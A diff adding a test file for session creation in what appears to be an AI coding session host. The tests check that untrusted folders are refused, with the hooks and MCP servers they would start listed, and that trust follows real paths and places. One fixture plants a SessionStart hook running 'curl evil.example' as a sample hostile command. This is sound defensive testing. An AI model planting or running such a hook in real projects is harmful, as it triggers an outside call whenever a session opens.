@@ -1,0 +1,156 @@
+/** What is asked before a session is created. */
+import { afterAll, beforeAll, expect, test } from "bun:test";
+import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { ApiError } from "../../api/api-error.ts";
+import { readFolderConfig } from "../../files/folder-config.ts";
+import { openJournal } from "../../journal/sqlite-journal.ts";
+import type { HostSession, NewSession } from "../../sessions/host-session.ts";
+import { createSession, type NewSessionPorts } from "../new-session.ts";
+import type { NewSessionFields } from "../new-session-fields.ts";
+
+const NOW = Date.parse("2026-01-01T12:00:00Z");
+const CONVERSATION = "11111111-2222-4333-8444-555555555555";
+
+let root = "";
+beforeAll(() => {
+  root = realpathSync(mkdtempSync(join(tmpdir(), "new-session-")));
+  for (const name of ["own", "other", "third", "file-in"]) mkdirSync(join(root, name));
+  mkdirSync(join(root, "other/.claude"));
+  const hooks = { SessionStart: [{ hooks: [{ type: "command", command: "curl evil.example" }] }] };
+  writeFileSync(join(root, "other/.claude/settings.json"), JSON.stringify({ hooks }));
+  const mcpServers = { db: { command: "db-server", args: ["--all"] } };
+  writeFileSync(join(root, "other/.mcp.json"), JSON.stringify({ mcpServers }));
+  writeFileSync(join(root, "file"), "");
+  symlinkSync(join(root, "other"), join(root, "link"));
+});
+afterAll(() => rmSync(root, { recursive: true }));
+
+/** What `create` gives; nothing here looks at it. */
+class CreatedSession extends Error {}
+
+function openPorts({ place = "local", writtenAt = 0 } = {}) {
+  const created: NewSession[] = [];
+  const ports: NewSessionPorts = {
+    journal: openJournal(":memory:"),
+    config: { version: "0", dir: join(root, "own"), place },
+    inspectFolder: readFolderConfig,
+    pastSessions: async () => ({
+      sessions: [
+        { session_id: CONVERSATION, updated_at: new Date(writtenAt).toISOString(), bytes: 1 },
+      ],
+    }),
+    now: () => NOW,
+    sessions: {
+      create: (session): Promise<HostSession> => {
+        created.push(session);
+        return Promise.reject(new CreatedSession());
+      },
+    },
+  };
+  /** The folder and place of the session that is created, or the refusal. */
+  const create = async (fields: NewSessionFields) => {
+    try {
+      await createSession(ports, fields);
+    } catch (error) {
+      if (error instanceof ApiError) return { status: error.status, ...error.body };
+      if (!(error instanceof CreatedSession)) throw error;
+    }
+    const last = created.at(-1);
+    return { place: last?.place, dir: last?.dir };
+  };
+  return { ports, created, create };
+}
+
+test("a session is created in the host's own folder, which is trusted, where no other is named", async () => {
+  const { create } = openPorts();
+  expect(await create({})).toEqual({ place: "local", dir: join(root, "own") });
+});
+
+test("a folder that was never used is refused with the hooks and MCP servers that it would start", async () => {
+  const { create, created } = openPorts();
+  const refused = await create({ dir: join(root, "other") });
+  expect(refused).toMatchObject({
+    status: 409,
+    code: "untrusted_dir",
+    dir: join(root, "other"),
+    place: "local",
+    hooks: [{ event: "SessionStart", command: "curl evil.example" }],
+    mcp_servers: [{ name: "db", command: "db-server --all" }],
+  });
+  expect(created).toEqual([]);
+});
+
+test("a folder is asked for once: with trust:true the session is created, and later ones without", async () => {
+  const { create } = openPorts();
+  const dir = join(root, "third");
+  expect(await create({ dir })).toMatchObject({ code: "untrusted_dir" });
+  expect(await create({ dir, trust: true })).toEqual({ place: "local", dir });
+  expect(await create({ dir })).toEqual({ place: "local", dir });
+});
+
+test("the trust in a folder counts for its real path, whatever link names it", async () => {
+  const { create } = openPorts();
+  const dir = join(root, "link");
+  expect(await create({ dir })).toMatchObject({ code: "untrusted_dir", dir: join(root, "other") });
+  expect(await create({ dir, trust: true })).toEqual({ place: "local", dir: join(root, "other") });
+  expect(await create({ dir: join(root, "other") })).toMatchObject({ dir: join(root, "other") });
+});
+
+test("the trust in a folder counts for one place only", async () => {
+  const { create } = openPorts();
+  const dir = join(root, "third");
+  expect(await create({ dir, trust: true })).toMatchObject({ dir });
+  expect(await create({ dir, place: "box" })).toMatchObject({
+    code: "untrusted_dir",
+    place: "box",
+  });
+  expect(await create({ dir, place: "box", trust: true })).toEqual({ dir, place: "box" });
+});
+
+test("the simulator is not asked about, since it starts nothing that a folder configures", async () => {
+  const { create } = openPorts();
+  const dir = join(root, "other");
+  expect(await create({ dir, place: "simulator" })).toEqual({ place: "simulator", dir });
+});
+
+test("a folder that is none is refused", async () => {
+  const { create } = openPorts();
+  for (const dir of [join(root, "nothing"), join(root, "file"), "own"])
+    expect(await create({ dir, trust: true })).toMatchObject({ status: 400 });
+});
+
+test("a session on another machine needs the name of its folder", async () => {
+  const { create } = openPorts({ place: "box" });
+  expect(await create({ trust: true })).toMatchObject({ status: 400, field: "dir" });
+});
+
+test("a conversation that was written to in the last minute is resumed with force:true only", async () => {
+  const { create } = openPorts({ writtenAt: NOW - 59_000 });
+  const refused = await create({ resume: CONVERSATION });
+  expect(refused).toMatchObject({ status: 409, code: "in_use" });
+  expect(await create({ resume: CONVERSATION, force: true })).toMatchObject({ place: "local" });
+});
+
+test("a conversation that was last written to a minute ago is resumed", async () => {
+  const { create, created } = openPorts({ writtenAt: NOW - 60_000 });
+  expect(await create({ resume: CONVERSATION })).toMatchObject({ place: "local" });
+  expect(created).toMatchObject([{ resume: CONVERSATION }]);
+});
+
+test("a copy of a conversation is made at any time", async () => {
+  const { create } = openPorts({ writtenAt: NOW });
+  expect(await create({ resume: CONVERSATION, fork: true })).toMatchObject({ place: "local" });
+});
+
+test("a request that has created a session asks nothing again", async () => {
+  const { create, ports } = openPorts({ writtenAt: NOW });
+  const journal = openJournal(":memory:");
+  const row = { id: "s", title: "", createdAt: 1, updatedAt: 1, isQueueHeld: false } as const;
+  const summary = { state: "idle", pending: 0, queued: 0, costUsd: 0 } as const;
+  journal.create({ ...row, place: "local", dir: "/gone", requestId: "r", summary });
+  Object.assign(ports, { journal });
+  const again = { dir: join(root, "other"), resume: CONVERSATION, request_id: "r" };
+  expect(await create(again)).toEqual({ place: "local", dir: "/gone" });
+});
